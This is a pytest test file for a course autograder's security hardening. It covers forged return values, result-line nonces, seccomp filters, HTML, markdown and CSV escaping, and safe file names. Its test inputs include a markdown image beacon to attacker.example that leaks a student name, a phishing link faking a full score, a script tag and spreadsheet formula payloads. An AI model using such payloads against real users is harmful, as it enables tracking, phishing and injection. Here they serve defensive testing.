"""The grader's pieces that need no kernel: the value format's limits, names, shards, the seccomp filter.

These run in `make check`. The format is what comes back from a student's kernel, so every refusal
here is a case a hostile kernel can produce by replacing utils.labkit.pack or printing a forged line.
"""
import json
import os
import struct

import numpy as np
import pytest

from tools.grading import batch as grading
from tools.grading import sandbox
from tools.grading.kernel import ResultLines, clean
from utils import course, labkit
from utils.labkit import MAX_DEPTH, WIRE_MAGIC, pack, unpack


def raw(nodes, data=b""):
    """Bytes in the wire format with any header, as a forged value would be."""
    header = json.dumps(nodes).encode()
    return WIRE_MAGIC + len(header).to_bytes(8, "little") + header + data


def test_values_round_trip_as_plain_data():
    value = {"a": [np.arange(3), "text", None, 2.5], "b": (np.float32(1), True), "c": {"é": "ü"}, "d": [[[]]],
             "e": np.array(["x", "yy"]), "f": np.zeros((2, 0, 3))}
    back = unpack(pack(value))
    assert back["a"][1:] == ["text", None, 2.5] and np.array_equal(back["a"][0], np.arange(3))
    assert back["b"] == [1.0, True] and back["b"][0].shape == () and back["c"] == {"é": "ü"}
    assert back["d"] == [[[]]] and list(back["e"]) == ["x", "yy"] and back["f"].shape == (2, 0, 3)


@pytest.mark.parametrize("value, message", [
    (object(), "cannot send a value of type object"),
    ("hello \ud800", "lone surrogate"),
    ({"k\udc80": 1}, "lone surrogate"),
    ([0] * 300_000, "more than 200,000 items"),
    (np.zeros(3 * 2**21), "larger than 16 MiB"),
    (10 ** 100, "cannot send a value of type int"),
])
def test_values_the_format_refuses_to_send(value, message):
    with pytest.raises(TypeError, match=message):
        pack(value)


def test_nesting_and_cycles_are_refused_without_recursion():
    deep = []
    for _ in range(100_000):
        deep = [deep]
    cycle = []
    cycle.append(cycle)
    for value in (deep, cycle):
        with pytest.raises(TypeError, match=f"nested deeper than {MAX_DEPTH} levels"):
            pack(value)


@pytest.mark.parametrize("data, message", [
    (b"", "not a packed value"),
    (b"PK\x03\x04" + bytes(100), "not a packed value"),   # an .npz (a zip) is not the format
    (WIRE_MAGIC + (10**9).to_bytes(8, "little"), "cut short"),
    (raw([["l", 2], ["n"]]), "cut short"),
    (raw([["n"], ["n"]]), "items after the end"),
    (raw([["a", "<f8", [10**6]]]), "cut short"),
    (raw([["a", "<f8", [2**40, 2**40]]]), "impossible shape"),
    (raw([["a", "|O8", [1]]], bytes(8)), "unknown type"),
    (raw([["a", "<U0", [5]]]), "unknown type"),
    (raw([["s", 2]], b"\xed\xa0"), "not valid text"),
    (raw([["d", 1], ["n"], ["n"]]), "key that is not a string"),
    (raw([["l", 1]] * 100 + [["n"]]), "nested deeper than 64"),
    (raw([["n"]] * 300_000), "unreadable"),
    (WIRE_MAGIC + (200_000).to_bytes(8, "little") + b"[" * 100_000 + b"]" * 100_000, "unreadable"),
    (raw([["n"]], b"left over"), "left over"),
    (bytes(18 * 2**20), "larger than 16 MiB"),
])
def test_forged_values_are_refused_with_a_reason(data, message):
    with pytest.raises(ValueError, match=message):
        unpack(data)


def test_a_value_unpacks_to_no_more_than_its_bytes():
    data = pack([np.zeros(1000)] * 100)
    value = unpack(data)
    assert sum(a.nbytes for a in value) <= len(data)


def test_result_lines_need_their_nonce_and_a_bounded_length():
    lines = ResultLines("abc")
    lines.feed(f"{labkit.RESULT_MARK}:forged\n{labkit.RESULT_MARK}xyz:other\nnoise {labkit.RESULT_MARK}abc:no\n")
    assert lines.last is None
    lines.feed(f"{labkit.RESULT_MARK}ab")
    lines.feed("c:split across\nmessages\n")
    assert lines.last == "split across"
    lines.feed(f"{labkit.RESULT_MARK}abc:" + "x" * (25 * 2**20) + "\n")
    assert lines.last == "split across"
    import time
    start = time.process_time()   # a 20 MB line in 1 kB pieces: linear, not quadratic, in its length
    lines.feed(f"{labkit.RESULT_MARK}abc:")
    for _ in range(20_000):
        lines.feed("y" * 1000)
    lines.feed("\n")
    used = time.process_time() - start
    assert len(lines.last) == 20_000_000 and used < 2, f"{used:.2f} s of CPU"


def test_feedback_lines_are_valid_bounded_text():
    assert clean("a\ud800b\x1b[31mred\x00") == "a\\ud800bred"
    assert len(clean("x" * 10_000)) == 600
    assert clean("at 0x7f3a2b1c9d40 in /tmp/labkit-abc123/work/x") == "at 0x… in [submission folder]/work/x"


def test_seccomp_filters_are_whole_programs():
    for machine in ("x86_64", "aarch64"):
        program = sandbox.seccomp_filter(machine)
        instructions = [struct.unpack("=HBBI", program[i:i + 8]) for i in range(0, len(program), 8)]
        assert instructions[-1][0] == 0x06 and instructions[-2][0] == 0x06   # ends with returns
        for i, (code, true, false, _) in enumerate(instructions):   # every jump lands inside
            if code & 0x07 == 0x05:
                assert i + 1 + max(true, false) < len(instructions)
    assert sandbox.seccomp_filter("riscv64") is None


def test_feedback_renders_no_html_of_the_submission():
    assert grading.no_html("<script>x</script><!-- <img src=x> z < 0 and z <= 1") == (
        "&lt;script>x&lt;/script>&lt;!-- &lt;img src=x> z < 0 and z <= 1")


def test_cleaning_a_huge_message_takes_little_cpu():
    """A message is cut before the patterns run: on 400,000 slashes the temp-path pattern took minutes,
    holding the worker's lock, so that the watcher thread could not hold the limits meanwhile."""
    import time
    start = time.process_time()
    for text in ("/" * 400_000, "/a" * 200_000):
        assert len(clean(text)) == 600
    used = time.process_time() - start
    assert used < 1, f"cleaning took {used:.2f} s of CPU"


def test_feedback_shows_a_submissions_markdown_as_text():
    """A name, a note and a test message that try to load an image, show a false score and hide a link
    render as the text they are: the feedback's only bold is the grader's score line."""
    import nbformat
    from markdown_it import MarkdownIt

    from tools import labs
    attack = ("see ![grade](https://attacker.example/t.png?who=alice) and "
              "[**13 / 13 points** (status: graded)](https://attacker.example/phish) `x` <b>y</b> ~~z~~ | _em_ a_b_c")
    lab = labs.exercises(nbformat.read(os.path.join(os.path.dirname(__file__), "fixtures", "grading_lab.ipynb"),
                                       as_version=4))
    result = {"status": "graded", "notes": [attack], "cells": {lab[0].answers[0]: attack},
              "tests": {gid: {"passed": False, "message": attack} for e in lab for gid in e.tests}}
    text = grading.feedback(f"[mallory]({attack})", "grading_lab", grading.score(lab, result), result)
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
    assert html.count("<strong>") == 1 and "<img" not in html and "<a " not in html and "<b>" not in html
    assert "<del>" not in html and "<table" not in html and "<code>x</code>" not in html and "<em>" not in html
    assert "a_b_c" in text   # inside a word, left as it is
    shown = html.count("![grade](https://attacker.example/t.png?who=alice)")
    assert shown == 3 + sum(len(e.tests) for e in lab)   # in the name, the note, the cell and every test


def test_csv_cells_are_never_formulas():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "|x", "%x"):
        assert grading.csv_cell(text).startswith("'")
    assert grading.csv_cell("alice") == "alice"


def test_feedback_names_are_unique_and_safe():
    names = ["alice", "Alice", "ALICE", "a/b", "a_b", "a_b-0123456789abcdef", "..", ".", "", "con", "x" * 300,
             "-rf", "é", "e\u0301", "nul.txt", "a\udce9"]
    made = [grading.feedback_name(name) for name in names]
    assert len({name.lower() for name in made}) == len(names)
    assert all(len(name) <= 100 and "/" not in name and not name.startswith((".", "-")) for name in made)
    assert grading.feedback_name("alice") == "alice"


def test_shard_index_comes_from_the_scheduler():
    assert grading.parse_shard("2/4", {}) == (2, 4)
    slurm = {"SLURM_ARRAY_TASK_ID": "12", "SLURM_ARRAY_TASK_MIN": "10", "SLURM_ARRAY_TASK_STEP": "2",
             "SLURM_ARRAY_TASK_COUNT": "3"}
    assert grading.parse_shard("slurm", slurm) == (2, 3)
    assert grading.parse_shard("slurm", {"SLURM_ARRAY_TASK_ID": "0", "SLURM_ARRAY_TASK_COUNT": "4"}) == (1, 4)
    assert grading.parse_shard("kubernetes/4", {"JOB_COMPLETION_INDEX": "3"}) == (4, 4)
    for text, env, message in (("slurm", {}, "SLURM_ARRAY_TASK_ID is not set"),
                               ("kubernetes/4", {}, "JOB_COMPLETION_INDEX is not set"),
                               ("kubernetes/4", {"JOB_COMPLETION_INDEX": "4"}, "shard 5 of 4"),
                               ("5/4", {}, "shard 5 of 4"), ("two", {}, "K/N")):
        with pytest.raises(ValueError, match=message):
            grading.parse_shard(text, env)




def test_memory_and_cpu_are_summed_over_a_process_tree():
    """tools.processes (the runner's and the grader's accounting): a child's memory and CPU time count."""
    import subprocess
    import sys

    from tools import processes
    child = subprocess.Popen([sys.executable, "-c", (
        "import time\nhog = bytearray(b'x' * (200 * 2**20))\nt = time.process_time()\n"
        "while time.process_time() - t < 0.3: pass\nprint('ready', flush=True)\ninput()\n")],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout.readline() == "ready\n"
        memory_kib, cpu = processes.usage(processes.tree(child.pid))
        assert memory_kib > 200 * 1024 and cpu >= 0.3
        assert processes.peak_kib(child.pid) > 200 * 1024
        assert processes.usage(processes.tree(os.getpid(), include_root=False))[0] > 200 * 1024
    finally:
        child.communicate("\n")


def test_the_kernel_refuses_an_untested_tensorflow_unless_the_teacher_allows_it(monkeypatch):
    monkeypatch.delenv("COURSE_ALLOW_OTHER_VERSIONS", raising=False)
    monkeypatch.setenv("LABKIT_TEST_SECRET", "the grader's own")
    env = sandbox.kernel_env("/home/student", "/course", "/venv/bin")
    assert env["COURSE_STRICT_VERSIONS"] == "1" and "COURSE_ALLOW_OTHER_VERSIONS" not in env
    assert "LABKIT_TEST_SECRET" not in env
    monkeypatch.setenv("COURSE_ALLOW_OTHER_VERSIONS", "1")
    assert sandbox.kernel_env("/home/student", "/course", "/venv/bin")["COURSE_ALLOW_OTHER_VERSIONS"] == "1"


# Course helpers that measure what the labs' exercises ask a student to write (gradient norms per
# layer, a derivative, the signal per layer, batch statistics): no graded kernel may import them.
ANSWERING_HELPERS = ("value_and_derivative", "gradient_norms", "activation_stats", "backprop_stats", "layer_outputs",
                     "kernel_gradients", "depth_profile", "backward_factor", "layer_signals", "dense_preactivation")


@pytest.mark.parametrize("step", [s for s in course.COURSE if s.is_lab], ids=lambda s: s.path)
def test_no_graded_kernel_gets_a_helper_that_answers_an_exercise(step):
    import utils
    offered = sandbox.closure(grading.ROOT, step.grading_utils)
    answering = {name: utils._HOME[name] for name in ANSWERING_HELPERS}
    assert not {name for name, module in answering.items() if module in offered}
